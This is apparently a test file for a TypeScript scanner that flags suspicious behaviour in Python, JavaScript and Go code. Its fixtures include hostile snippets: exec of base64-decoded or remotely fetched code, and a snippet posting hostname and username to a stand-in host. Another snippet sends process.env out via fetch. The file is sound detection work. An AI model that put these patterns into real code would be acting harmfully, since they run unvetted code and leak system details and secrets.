import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Act, ActKind } from '../src/facts/acts/act.ts';
import { readPlainCode } from '../src/facts/acts/plain-code.ts';
import { readActs } from '../src/facts/acts/read-acts.ts';

const MOST_MILLISECONDS = 2_000;
const PUMP_SIZE = 50_000;
const TRIES = 5;

function acts(text: string, language = 'python', path = 'pkg/module.py'): readonly Act[] {
  return readActs({ path, text, language, context: 'runtime' });
}
function kinds(text: string, language = 'python', path = 'pkg/module.py'): readonly ActKind[] {
  return acts(text, language, path).map(({ kind }) => kind);
}

test('a value is followed through names, functions and aliases', () => {
  assert.deepEqual(kinds('a = base64.b64decode(x)\nb = a.decode()\nexec(b)\n'), ['decoded-execution']);
  assert.deepEqual(kinds('def get(u):\n    return requests.get(u).text\ncode = get(URL)\nexec(code)\n'), [
    'remote-execution',
  ]);
  assert.deepEqual(kinds('run = exec\nrun(base64.b64decode(x))\n'), ['decoded-execution']);
  assert.deepEqual(kinds('from os import system as s\ns(base64.b64decode(x))\n'), ['decoded-execution']);
});

test('a name that is packed step by step keeps its first meaning', () => {
  const text = `
data = {"h": socket.gethostname(), "u": getpass.getuser()}
data = json.dumps(data)
data = base64.b64encode(data.encode())
requests.post("https://c.example.net", data=data)
`;

  assert.deepEqual(kinds(text), ['system-facts-sent']);
});

test('what a comment says is not done', () => {
  assert.deepEqual(kinds('# exec(base64.b64decode(x))\nprint(1)\n'), []);
  assert.deepEqual(kinds('// eval(atob(x))\nfetch(url);\n', 'javascript', 'a.js'), []);
});

test('a payload of a megabyte does not hide the call round it', () => {
  const text = `import os\nexec("${'QUJD'.repeat(250_000)}".decode("base64"))\n`;
  const [act] = acts(text);

  assert.equal(act?.kind, 'decoded-execution');
  assert.equal(act?.start, text.indexOf('exec('));
});

test('offsets lead back to the file, past what was left out', () => {
  const text = `# a comment\nblob = "${'A'.repeat(500)}"  # another\nvalue = 1\n`;
  const code = readPlainCode(text, 'python');

  assert.ok(code.text.length < text.length);
  assert.equal(code.toFile(code.text.indexOf('value')), text.indexOf('value'));
});

test('code outside functions runs at import, and so does a function the module calls', () => {
  const atLoad = (text: string): boolean | undefined => acts(text)[0]?.atLoad;

  assert.equal(atLoad('exec(base64.b64decode(x))\n'), true);
  assert.equal(atLoad('def go():\n    exec(base64.b64decode(x))\n'), false);
  assert.equal(atLoad('def go():\n    exec(base64.b64decode(x))\n\ngo()\n'), true);
});

test('children get their environment, strangers do not', () => {
  assert.deepEqual(kinds('fetch(u, { body: JSON.stringify(process.env) });\n', 'javascript', 'a.js'), [
    'environment-sent',
  ]);
  assert.deepEqual(kinds("spawn('node', [], { env: { ...process.env } });\n", 'javascript', 'a.js'), []);
});

test('no file keeps the reader of acts busy', () => {
  const fillers = [
    'a',
    ' ',
    '(',
    '"',
    "'",
    'x = ',
    'exec(',
    'requests.get(',
    'a.b(',
    "['a'](",
    'open("a", "wb")',
    '\\x41',
  ];
  for (const [language, path] of [
    ['python', 'setup.py'],
    ['javascript', 'a.js'],
    ['go', 'a.go'],
  ] as const) {
    for (const filler of fillers) {
      const text = `exec requests fetch https os.system(\n${filler.repeat(PUMP_SIZE / filler.length)}`;
      const spent = leastSpent(() => acts(text, language, path));

      assert.ok(spent < MOST_MILLISECONDS, `${spent} ms on ${path} pumped with ${JSON.stringify(filler)}`);
    }
  }
});

function leastSpent(work: () => unknown): number {
  let least = Number.POSITIVE_INFINITY;
  for (let turn = 0; turn < TRIES && least >= MOST_MILLISECONDS; turn += 1) {
    const before = process.cpuUsage();
    work();
    const { user, system } = process.cpuUsage(before);
    least = Math.min(least, (user + system) / 1000);
  }
  return least;
}
